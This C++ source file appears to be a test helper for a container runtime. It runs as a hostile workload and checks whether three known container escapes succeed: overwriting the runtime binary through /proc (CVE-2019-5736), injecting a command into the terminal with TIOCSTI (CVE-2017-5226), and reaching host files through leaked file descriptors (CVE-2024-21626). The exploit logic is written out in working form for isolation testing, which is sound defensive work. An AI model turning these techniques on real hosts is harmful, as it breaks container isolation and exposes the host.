// SPDX-License-Identifier: GPL-3.0-or-later
//
// What a hostile workload does inside a container; static, so that it runs in any. Its exit code is 0 when the attack
// worked, 1 when it failed, 2 when it could not be tried.
#include <cerrno>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <string>

#include <dirent.h>
#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <unistd.h>

namespace {

constexpr int longest = 600; ///< seconds, should the test be gone

enum Outcome : int { worked = 0, failed = 1, not_tried = 2 };

/// Adds a byte to a file, which does a program no harm. A sealed copy can be opened, but not changed.
bool is_written_to(int file) {
    struct stat status {};
    return ::fstat(file, &status) == 0 && ::pwrite(file, "", 1, status.st_size) == 1;
}

/// Opens the runtime's file through each of its processes, keeps it, and tries to open it for writing until nobody
/// executes it any more (CVE-2019-5736). Until `enough`, a file, is there. Other programs, which are the host's, are
/// let alone.
int overwrite_executables(const char* enough) {
    const time_t end = ::time(nullptr) + longest;
    int seen = 0;
    while (::access(enough, F_OK) != 0 && ::time(nullptr) < end) {
        DIR* processes = ::opendir("/proc");
        if (processes == nullptr)
            return not_tried;
        while (const dirent* entry = ::readdir(processes)) { // NOLINT(concurrency-mt-unsafe): one thread
            const int pid = std::atoi(entry->d_name);
            if (pid <= 1 || pid == ::getpid())
                continue;
            const std::string file = "/proc/" + std::string(entry->d_name) + "/exe";
            char target[256] = {};
            if (::readlink(file.c_str(), target, sizeof target - 1) <= 0 ||
                std::strstr(target, "isolab-runtime") == nullptr)
                continue;
            ++seen;
            const int held = ::open(file.c_str(), O_PATH | O_CLOEXEC);
            if (held < 0)
                continue;
            for (int i = 0; i < 200; ++i) {
                const int open = ::open(("/proc/self/fd/" + std::to_string(held)).c_str(), O_WRONLY);
                if (open >= 0 && is_written_to(open))
                    return worked;
                if (open >= 0)
                    ::close(open);
                if (open >= 0 || errno != ETXTBSY)
                    break;
                ::usleep(500);
            }
            ::close(held);
        }
        ::closedir(processes);
    }
    return seen > 0 ? failed : not_tried;
}

/// Types a command into the terminal that standard input is (CVE-2017-5226).
int type_into_terminal() {
    if (::isatty(STDIN_FILENO) == 0)
        return not_tried;
    for (const char* next = "echo pwned\n"; *next != '\0'; ++next)
        if (::ioctl(STDIN_FILENO, TIOCSTI, next) != 0)
            return failed;
    return worked;
}

/// Reaches a file outside, named by its path there, from a descriptor of this process (CVE-2024-21626).
int leave_by_descriptors(const std::string& outside) {
    for (int fd = 0; fd < 256; ++fd) {
        const int found = ::openat(fd, ("../../../../../../../.." + outside).c_str(), O_RDONLY | O_CLOEXEC);
        if (found >= 0)
            return worked;
    }
    return failed;
}

} // namespace

int main(int argc, char** argv) {
    const std::string attack = argc > 1 ? argv[1] : "";
    if (attack == "executables" && argc > 2)
        return overwrite_executables(argv[2]);
    if (attack == "terminal")
        return type_into_terminal();
    if (attack == "descriptors" && argc > 2)
        return leave_by_descriptors(argv[2]);
    return not_tried;
}
